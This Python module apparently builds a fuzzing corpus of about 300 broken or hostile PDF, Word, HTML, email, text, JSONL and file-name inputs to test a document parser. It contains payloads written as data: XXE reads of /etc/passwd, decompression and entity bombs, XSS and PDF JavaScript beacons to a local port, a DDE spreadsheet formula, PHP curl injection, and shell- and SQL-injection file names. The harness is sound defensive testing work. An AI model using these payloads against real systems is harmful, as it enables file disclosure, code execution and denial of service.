"""Nothing → 300 files that mean harm or are broken, by name: made here, from a fixed seed, when they are asked for."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial

import papers

Inputs = dict[str, Callable[[], bytes]]
FLOODS = "Floods killed at least 14 people and injured 30 in Herat province on Monday, the provincial police said."
FORMULAS = (
    "=1+1",
    "+14",
    "-30 people",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:%d/","14 killed")',
)
MEGABYTE = 1_000_000


def inputs(port: int, canary: str) -> Inputs:
    """Every input; what they would have run, asked for or written is the port of this machine and the path of the
    canary."""
    made: Inputs = {}
    for family in (pdfs, words, pages, texts, mails, corpora, names, liars):
        for name, make in family(port, canary):
            assert name not in made, name
            made[name] = make
    return made


Family = Iterator[tuple[str, Callable[[], bytes]]]


def given(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def cut(data: bytes, count: int) -> Iterator[bytes]:
    """The beginnings of a file."""
    yield from (data[: max(6, len(data) * at // (count + 1))] for at in range(1, count + 1))


def flipped(data: bytes, count: int, seed: int) -> Iterator[bytes]:
    """Copies with a few bytes changed, never the first ones that say what it is."""
    chance = random.Random(seed)
    for _ in range(count):
        copy = bytearray(data)
        for _ in range(chance.randint(1, 20)):
            copy[chance.randrange(8, len(copy))] = chance.randrange(256)
        yield bytes(copy)


def pdfs(port: int, canary: str) -> Family:
    whole = papers.pdf([FLOODS] * 5, [FLOODS] * 40, [FLOODS])
    yield from ((f"cut-{at:02}.pdf", given(data)) for at, data in enumerate(cut(whole, 24)))
    yield from ((f"flipped-{at:02}.pdf", given(data)) for at, data in enumerate(flipped(whole, 24, 1)))
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        yield f"locked-{algorithm}.pdf", partial(papers.locked, whole, "secret", algorithm)
        yield f"cut-and-locked-{algorithm}.pdf", given(papers.locked(whole, "secret", algorithm)[:-300])
    catalogue, tree = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R %s >>"
    fonts = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    said = b"BT /F1 9 Tf (14 people died) Tj ET"
    bomb = zlib.compress(b" " * (200 * MEGABYTE), 9)
    script = b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://127.0.0.1:%d/')) >>" % port
    launch = b"/OpenAction << /S /Launch /F (touch %s) /Win << /F (cmd.exe) >> >>" % canary.encode()
    structures = {
        "own-child": [catalogue, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"],
        "own-parent": [
            catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Parent 3 0 R /Count 1 >>",
        ],
        "countless": [
            catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>",
            leaf % fonts,
            papers.stream(said),
        ],
        "same-page": [
            catalogue,
            b"<< /Type /Pages /Kids [" + b"3 0 R " * 4_000 + b"] /Count 4000 >>",
            leaf % fonts,
            papers.stream(said),
        ],
        "arrays": [catalogue, tree, leaf % (b"/X " + b"[" * 50_000 + b"]" * 50_000), papers.stream(said)],
        "dictionaries": [catalogue, tree, leaf % (b"<< /A " * 20_000 + b">> " * 20_000), papers.stream(said)],
        "no-pages": [b"<< /Type /Catalog >>"],
        "wrong-types": [b"<< /Type /Catalog /Pages (14) >>"],
        "bomb": [catalogue, tree, leaf % fonts, papers.stream(bomb, b"/Filter /FlateDecode")],
        "double-bomb": [
            catalogue,
            tree,
            leaf % fonts,
            papers.stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]"),
        ],
        "filters": [
            catalogue,
            tree,
            leaf % fonts,
            papers.stream(said, b"/Filter [" + b"/ASCIIHexDecode " * 5_000 + b"]"),
        ],
        "unknown-filter": [catalogue, tree, leaf % fonts, papers.stream(said, b"/Filter /Secret")],
        "jumps": [
            catalogue,
            tree,
            leaf % fonts,
            papers.stream(b"BT /F1 9 Tf " + b"1 0 0 1 9e99 -9e99 Tm (14) Tj " * 20_000 + b"ET"),
        ],
        "graphics": [catalogue, tree, leaf % fonts, papers.stream(b"q " * 200_000 + said)],
        "long-name": [catalogue, tree, leaf % (b"/" + b"N" * 2_000_000 + b" 1"), papers.stream(said)],
        "script": [catalogue[:-2] + script + b" >>", tree, leaf % fonts, papers.stream(said)],
        "launch": [catalogue[:-2] + launch + b" >>", tree, leaf % fonts, papers.stream(said)],
        "itself": [
            *(catalogue, tree, leaf % b"/Resources << /XObject << /X 5 0 R >> >>", papers.stream(b"/X Do")),
            papers.stream(
                b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"
            ),
        ],
        "reference-to-itself": [catalogue, tree, leaf % fonts, b"4 0 R"],
    }
    yield from ((f"{name}.pdf", partial(papers.objects, bodies)) for name, bodies in structures.items())
    yield (
        "table-of-itself.pdf",
        given(whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % whole.rindex(b"xref\n0"))),
    )
    yield "nowhere.pdf", given(whole[: whole.rindex(b"startxref")] + b"startxref\n999999999999\n%%EOF\n")
    yield "empty-objects.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\nendobj\n" * 300_000
    yield "noise.pdf", lambda: b"%PDF-1.7\n" + random.Random(2).randbytes(2 * MEGABYTE)
    yield "one-line.pdf", lambda: b"%PDF-1.7 " + b"1 " * (10 * MEGABYTE)


def xml_bomb(levels: int) -> bytes:
    entities = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, levels))
    return f'<!DOCTYPE x [<!ENTITY e0 "14 killed ">{entities}]>'.encode()


def words(port: int, canary: str) -> Family:
    whole = papers.word(FLOODS, [("Province", "Killed"), ("Herat", "14")], title="Update")
    yield from ((f"cut-{at:02}.docx", given(data)) for at, data in enumerate(cut(whole, 14)))
    yield from ((f"flipped-{at:02}.docx", given(data)) for at, data in enumerate(flipped(whole, 14, 3)))
    body = papers.word_of("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>")

    def with_doctype(doctype: bytes, entity: bytes = b"&e;") -> bytes:
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        return papers.zipped(
            parts | {"word/document.xml": doctype + parts["word/document.xml"].replace(b"&e;", entity)}
        )

    yield "laughs.docx", lambda: with_doctype(xml_bomb(10), b"&e9;")
    yield (
        "quadratic.docx",
        lambda: with_doctype(b'<!DOCTYPE x [<!ENTITY e "' + b"14 " * 30_000 + b'">]>', b"&e;" * 30_000),
    )
    yield "reads-a-file.docx", lambda: with_doctype(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
    yield "asks-a-host.docx", lambda: with_doctype(b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:%d/">]>' % port)
    yield "asks-for-a-dtd.docx", lambda: with_doctype(b'<!DOCTYPE x SYSTEM "http://127.0.0.1:%d/x.dtd">' % port)
    office, package = (
        f"http://schemas.openxmlformats.org/{name}/2006/relationships" for name in ("officeDocument", "package")
    )
    template = (
        f'<Relationship Id="rId1" Type="{office}/attachedTemplate" Target="http://127.0.0.1:{port}/t" '
        'TargetMode="External"/>'
    )
    relation = f'<Relationships xmlns="{package}">{template}</Relationships>'
    said = "<w:p><w:r><w:t>14 died</w:t></w:r></w:p>"
    bodies = {
        "tables": "<w:tbl><w:tr><w:tc>" * 3_000 + said + "</w:tc></w:tr></w:tbl>" * 3_000,
        "paragraphs": "<w:p/>" * 500_000 + said,
        "runs": "<w:p>" + "<w:r><w:t>14 </w:t></w:r>" * 200_000 + "</w:p>",
        "boxes": "<w:p>" + "<w:r><w:pict><w:p>" * 3_000 + said + "</w:p></w:pict></w:r>" * 3_000 + "</w:p>",
        "controls": "<w:sdt><w:sdtContent>" * 5_000 + said + "</w:sdtContent></w:sdt>" * 5_000,
        "wide": f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{"9" * 4_000}"/></w:tcPr>{said}</w:tc></w:tr></w:tbl>',
        "cells": "<w:tbl><w:tr>" + f"<w:tc>{said}</w:tc>" * 20_000 + "</w:tr></w:tbl>",
        "rows": "<w:tbl>" + f"<w:tr><w:tc>{said}</w:tc><w:tc>{said}</w:tc></w:tr>" * 5_000 + "</w:tbl>",
        "overrides": "<w:p><w:r><w:t>\u202e14 deid \u2066\u202d</w:t></w:r></w:p>",
        "unclosed": "<w:p><w:r><w:t>14 died",
        "one-line": f"<w:p><w:r><w:t>{'14 died ' * 3_000_000}</w:t></w:r></w:p>",
        "empty": "",
    }
    yield from ((f"{name}.docx", partial(papers.word_of, markup)) for name, markup in bodies.items())
    for at, formula in enumerate(FORMULAS):
        cell = formula % port if "%d" in formula else formula
        yield f"formula-{at}.docx", partial(papers.word, cell, [("Killed", cell), (cell, "14 killed")], title=cell)
    more: dict[str, dict[str, bytes]] = {
        "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Shell" * 100},
        "outside": {
            "../../outside.txt": b"14",
            "/tmp/outside.txt": b"14",
            "C:\\outside.txt": b"14",
            "word/../../../outside.xml": b"<a/>",
        },
        "template": {"word/_rels/document.xml.rels": relation.encode()},
        "no-types": {"[Content_Types].xml": b"<Types/>"},
        "broken-types": {"[Content_Types].xml": b"<Types"},
        "wrong-core": {"docProps/core.xml": b"\0\1\2"},
        "zip-in-zip": {"word/media/inner.zip": papers.zipped({"a": papers.zipped({"b": b"0" * MEGABYTE})})},
    }
    yield from ((f"{name}.docx", partial(papers.word_of, said, **parts)) for name, parts in more.items())
    yield (
        "bomb-body.docx",
        lambda: papers.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * (200 * MEGABYTE)}),
    )
    yield "bomb-picture.docx", lambda: papers.word_of(said, **{"word/media/a.png": b"0" * (250 * MEGABYTE)})
    yield (
        "bomb-styles.docx",
        lambda: papers.word_of(said, **{"word/styles.xml": b"<a>" + b"<b/>" * (20 * MEGABYTE) + b"</a>"}),
    )
    yield "parts.docx", lambda: papers.word_of(said, **{f"word/{at}.xml": b"<a/>" for at in range(20_000)})
    yield (
        "lies-of-its-size.docx",
        lambda: understated(papers.zipped({"[Content_Types].xml": b"", "word/document.xml": b" " * (100 * MEGABYTE)})),
    )


def understated(archive: bytes) -> bytes:
    """A ZIP archive whose directory says that every part is tiny."""
    data, at = bytearray(archive), 0
    while (at := archive.find(b"PK\x01\x02", at)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    return bytes(data)


EVENTS = (
    "<img src=x onerror=fetch('%s')>",
    "<body onload=fetch('%s')>",
    "<svg/onload=fetch('%s')>",
    "<iframe src='%s'></iframe>",
    "<object data='%s'></object>",
    "<embed src='%s'>",
    "<link rel=stylesheet href='%s'>",
    "<link rel=import href='%s'>",
    "<meta http-equiv=refresh content='0;url=%s'>",
    "<base href='%s'>",
    "<form action='%s'><button autofocus onfocus=submit()>14 killed</button></form>",
    "<script src='%s'></script>",
    "<script>document.write('99 killed')</script>",
    "<style>@import url(%s);</style>",
    "<a href='javascript:fetch(\"%s\")'>14 killed</a>",
    "<details open ontoggle=fetch('%s')>14 killed</details>",
    "<math><mtext><img src=x onerror=fetch('%s')></mtext></math>",
    "<template><img src='%s'></template>",
    "<noscript><p title='</noscript><img src=%s>'></noscript>",
    "<!--[if IE]><script src='%s'></script><![endif]-->",
    "<?php system('curl %s'); ?>",
    "{{7*7}} ${7*7} <%= `curl %s` %>",
)


def pages(port: int, canary: str) -> Family:
    for at, event in enumerate(EVENTS):
        trick = event.replace("%s", f"http://127.0.0.1:{port}/{at}")
        yield f"event-{at:02}.html", partial(papers.page, FLOODS, FLOODS.replace("14", "15"), around=trick)
    for tag in ("div", "b", "blockquote", "ul><li", "table><tr><td", "article", "font", "svg"):
        for depth in (300, 20_000):
            name = tag.split(">")[0]
            yield f"deep-{name}-{depth}.html", partial(papers.page, f"<{tag}>" * depth + FLOODS)
    source = papers.page(FLOODS, "“Köln” 5 hurt").decode()
    for encoding in ("utf-16-le", "utf-16-be", "utf-16", "utf-32", "utf-7", "cp037", "shift-jis"):
        yield f"{encoding}.html", partial(source.encode, encoding, "replace")
    for charset in ("zlib", "unicode_escape", "idna", "punycode", "utf-7", "../../etc/passwd", "x" * 5_000, "rot13"):
        data = papers.page(FLOODS, "\u00e9", head=f"<meta charset='{charset}'>").decode().encode("latin-1")
        yield f"charset-{charset[:8].strip('./')}.html", given(data)
    bodies: dict[str, Callable[[], str]] = {
        "entities": lambda: "<p>" + "&amp;" * 300_000 + FLOODS,
        "numeric-entities": lambda: "<p>&#0;&#xd800;&#x110000;&#99999999999;&#x202e;" + FLOODS,
        "attribute": lambda: f"<p title='{'14 ' * 1_000_000}'>" + FLOODS,
        "attributes": lambda: "<p " + " ".join(f"a{at}=1" for at in range(100_000)) + ">" + FLOODS,
        "comment": lambda: FLOODS + "<!-- " + "-" * 2_000_000,
        "comments": lambda: "<!-- x -->" * 100_000 + FLOODS,
        "tags": lambda: "<br>" * 50_000 + FLOODS,
        "links": lambda: "<a href=/x>14 killed</a> " * 30_000,
        "colspan": lambda: "<table><tr><td colspan=999999999 rowspan=999999999>14 killed<td>30</table>" + FLOODS,
        "brackets": lambda: "<" * 500_000 + FLOODS,
        "half-tag": lambda: FLOODS + "<p title='",
        "cdata": lambda: "<![CDATA[" * 50_000 + FLOODS,
        "overrides": lambda: "<p>\u202e" + FLOODS + "\u2066\u2069\u202c",
        "nul": lambda: "<p>14\0 people\0 died</p>" * 100,
        "json": lambda: '<script type="application/ld+json">' + '{"a":' * 50_000 + "</script>" + FLOODS,
        "json-dates": lambda: (
            '<script type="application/ld+json">{"datePublished": "' + "2021-" * 100_000 + '"}</script>' + FLOODS
        ),
        "dates": lambda: "".join(f"<time datetime=2021-01-{at % 28 + 1:02}>x</time>" for at in range(20_000)) + FLOODS,
        "words-without-end": lambda: "<p>" + "a" * 900_000,
        "paragraphs": lambda: f"<p>{FLOODS}</p>" * 4_000,
        "long-title": lambda: f"</article><title>{'14 ' * 300_000}</title><p>{FLOODS}",
        "formula": lambda: papers.table([("Killed", "Place"), ("=1+14", "@Herat"), ("+14", "-30 killed")]) + FLOODS,
        "frames": lambda: f"<frameset><frame src=http://127.0.0.1:{port}/></frameset>",
    }
    yield from (
        (f"{name}.html", lambda make=make: papers.page(make() if make().startswith("<") else f"<p>{make()}"))
        for name, make in bodies.items()
    )
    yield "xhtml-laughs.html", lambda: xml_bomb(10) + f"<html><body><p>&e9; {FLOODS}</p></body></html>".encode()
    yield (
        "xhtml-file.html",
        lambda: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><html><body><p>&e; 14 died</p></body></html>",
    )
    yield "one-line.html", lambda: b"<p>" + b"14 people died and " * (50 * MEGABYTE // 19)
    yield "one-word.html", lambda: b"<p>" + b"7" * (20 * MEGABYTE)
    yield "only-scripts.html", lambda: b"<html><script>" + b"go();" * 200_000 + b"</script></html>"


def texts(port: int, canary: str) -> Family:
    size = MEGABYTE // 2
    bodies: dict[str, Callable[[], bytes]] = {
        "one-line": lambda: b"14 people died and " * (50 * MEGABYTE // 19),
        "one-line-of-digits": lambda: b"7" * (50 * MEGABYTE),
        "too-long": lambda: b"14 died.\n" * 120_000,
        "digits": lambda: b"7" * size,
        "commas": lambda: b"1," * (size // 2),
        "points": lambda: b"1." * (size // 2),
        "hyphens": lambda: b"1-" * (size // 2),
        "scales": lambda: b"million " * (size // 8),
        "spelt": lambda: b"twenty-" * (size // 7),
        "percent": lambda: b"%" * size,
        "currencies": lambda: "$€£".encode() * (size // 8),
        "brackets": lambda: b"(" * size,
        "quotation": lambda: "“".encode() * (size // 3),
        "blanks": lambda: b"14" + b" " * size + b"died",
        "line-ends": lambda: b"14\r\n" * (size // 8),
        "tabs": lambda: b"14\t" * (size // 12),
        "nul": lambda: b"14\0people\0died",
        "nul-at-the-end": lambda: FLOODS.encode() + b"\0",
        "utf-16-without-mark": lambda: FLOODS.encode("utf-16-le"),
        "utf-16-cut": lambda: FLOODS.encode("utf-16")[:-1],
        "surrogates": lambda: FLOODS.encode() + b"\xed\xa0\xbd",
        "overlong": lambda: b"\xc0\xaf\xc0\xae" + FLOODS.encode(),
        "overrides": lambda: f"\u202e{FLOODS}\u202c \u206614\u2069 died".encode(),
        "combining": lambda: ("14" + "\u0301" * 100_000 + " people died").encode(),
        "joiners": lambda: "1\u200d4\u200b people\ufeff died".encode(),
        "digits-of-the-world": lambda: "١٤ people, १४ people, １４ people and 𝟙𝟜 people died".encode(),
        "escapes": lambda: f"\x1b]0;owned\x07\x1b[2J{FLOODS}\x9b31m".encode(),
        "markup": lambda: f"<script>fetch('http://127.0.0.1:{port}')</script> {FLOODS}".encode(),
        "formulas": lambda: "\n".join(f"{one.replace('%d', str(port))} {FLOODS}" for one in FORMULAS).encode(),
        "infinite": lambda: (
            b"1e999999999 people, inf people, nan people and 0x1e people died. 9" + b"9" * 5_000 + b" people died."
        ),
        "noise": lambda: random.Random(4).randbytes(size),
        "printable-noise": lambda: "".join(random.Random(5).choices("0123456789 .,-%$()\n aefhlno", k=size)).encode(),
    }
    yield from ((f"{name}.txt", make) for name, make in bodies.items())


def mails(port: int, canary: str) -> Family:
    def nested(depth: int) -> bytes:
        opening = "".join(f"Content-Type: multipart/mixed; boundary=b{at}\r\n\r\n--b{at}\r\n" for at in range(depth))
        return papers.mail("", opening + "Content-Type: text/plain\r\n\r\n14 died")

    bodies: dict[str, Callable[[], bytes]] = {
        "nested-100": lambda: nested(100),
        "nested-5000": lambda: nested(5_000),
        "forwarded": lambda: papers.mail("", "Content-Type: message/rfc822\r\n\r\n" * 3_000 + "14 died"),
        "boundary": lambda: papers.mail("--b\r\n" * 100_000, "Content-Type: multipart/mixed; boundary=b"),
        "empty-boundary": lambda: papers.mail("--\r\n14 died", "Content-Type: multipart/mixed; boundary="),
        "subject": lambda: papers.mail(FLOODS, "Subject: " + "14 " * 300_000),
        "encoded-subject": lambda: papers.mail(FLOODS, "Subject: " + "=?utf-8?q?=3d?= " * 20_000),
        "headers": lambda: papers.mail(FLOODS, *(f"X-{at}: {at}" for at in range(100_000))),
        "addresses": lambda: b"From: " + b"<a@b>, " * 4_000 + b"\r\n\r\n14 died",
        "comments": lambda: b"From: " + b"(" * 20_000 + b"a@b\r\n\r\n14 died",
        "date": lambda: papers.mail(FLOODS, "Date: " + "9" * 5_000),
        "dates": lambda: papers.mail(FLOODS, "Date: Fri, 99 Jul 99999 99:99:99 +9999"),
        "charset": lambda: papers.mail(FLOODS, "Content-Type: text/plain; charset=zlib"),
        "charset-tricks": lambda: papers.mail(FLOODS, "Content-Type: text/plain; charset*=utf-8''%00%ff%zz"),
        "base64": lambda: papers.mail("====" + "A" * 99_999, "Content-Transfer-Encoding: base64"),
        "uuencode": lambda: papers.mail(
            f"begin 644 ../../{canary}\nM" + "!" * 60, "Content-Transfer-Encoding: x-uuencode"
        ),
        "quoted": lambda: papers.mail("=" * 300_000, "Content-Transfer-Encoding: quoted-printable"),
        "attached": lambda: papers.mail(
            f'--b\r\nContent-Disposition: attachment; filename="{canary}"\r\n\r\n14 died\r\n--b--',
            "Content-Type: multipart/mixed; boundary=b",
        ),
        "page": lambda: papers.mail(papers.page(FLOODS, around=EVENTS[0] % port).decode(), "Content-Type: text/html"),
        "nul": lambda: b"From: a\0b@c\r\n\r\n14 died",
        "one-line": lambda: papers.mail("14 people died and " * (45 * MEGABYTE // 19)),
        "no-body": lambda: papers.mail(""),
    }
    yield from ((f"{name}.eml", make) for name, make in bodies.items())


def corpora(port: int, canary: str) -> Family:
    good = json.dumps({"id": "good", "text": FLOODS})
    lines: dict[str, Callable[[], str]] = {
        "one-line": lambda: json.dumps({"id": "a", "text": "14 people died and " * (50 * MEGABYTE // 19)}),
        "deep": lambda: '{"text": ' + "[" * 500_000,
        "deep-objects": lambda: '{"a":' * 200_000,
        "digits": lambda: '{"id": ' + "9" * 100_000 + ', "text": "14 died"}',
        "numbers": lambda: '{"id": NaN, "text": "14 died", "published": 1e999}',
        "twice": lambda: '{"text": "14 died", "text": 14}',
        "half": lambda: '{"id": "\\ud800", "text": "14 died"}',
        "half-text": lambda: '{"id": "h", "text": "14 \\udfff died"}',
        "path": lambda: json.dumps({"id": f"../../../..{canary}", "text": FLOODS, "url": f"file://{canary}"}),
        "formula": lambda: json.dumps(
            {"id": "=1+1", "title": "=cmd|' /C calc'!A0", "text": "=14 people died", "publisher": "@x"}
        ),
        "script": lambda: json.dumps(
            {"id": "<script>", "title": "<img onerror=x>", "text": FLOODS, "url": "javascript:alert(1)"}
        ),
        "terminal": lambda: json.dumps({"id": "\x1b[2J\u202e\n", "text": FLOODS, "published": "\x1b[2J"}),
        "blank-lines": lambda: "\n" * MEGABYTE,
    }
    yield from (
        (f"{name}.jsonl", lambda make=make: f"{make()}\n{good}\n".encode("utf-8", "surrogatepass"))
        for name, make in lines.items()
    )
    yield "nul.jsonl", given(b"\0" * 1_000 + b"\n" + good.encode())
    yield "utf-16.jsonl", given(good.encode("utf-16"))
    yield "lines.jsonl", lambda: b"\n".join(b"{broken %d" % at for at in range(2_000))


def names(port: int, canary: str) -> Family:
    """Files that mean harm by their names; what they hold is harmless. A slash cannot be in a name, but all else
    can."""
    data = given(FLOODS.encode())
    for name in (
        "-rf.txt",
        "--output=x.txt",
        "$(touch canary).txt",
        "`touch canary`.txt",
        ";touch canary;.txt",
        "| touch canary.txt",
        "..txt.txt",
    ):
        yield name, data
    for name in (
        "..\\..\\outside.txt",
        "..%2f..%2foutside.txt",
        "=1+1.txt",
        "@x.txt",
        "con.txt",
        "a\nb.txt",
        "a\x1b[2Jb.txt",
        "a\u202etxt.exe.txt",
    ):
        yield name, data
    for name in (
        "<script>.txt",
        "'\"; DROP TABLE facts;--.txt",
        "é" * 100 + ".txt",
        "\udcff\udcfe.txt",
        " .txt",
        "a.txt.",
        "a.docx.exe",
    ):
        yield name, data


def liars(port: int, canary: str) -> Family:
    """Files that are something else than their suffix says."""
    whole = {
        "page": papers.page(FLOODS),
        "words": papers.word(FLOODS),
        "paper": papers.pdf([FLOODS]),
        "picture": b"\x89PNG\r\n\x1a\n" + bytes(90),
    }
    for kind, suffixes in {
        "page": "docx pdf",
        "words": "pdf html eml txt",
        "paper": "docx html txt jsonl",
        "picture": "docx pdf html txt eml",
    }.items():
        for suffix in suffixes.split():
            yield f"{kind}.as.{suffix}", given(whole[kind])
    for suffix in ("docx", "pdf", "html", "eml", "jsonl"):
        yield f"nothing.{suffix}", given(b"")
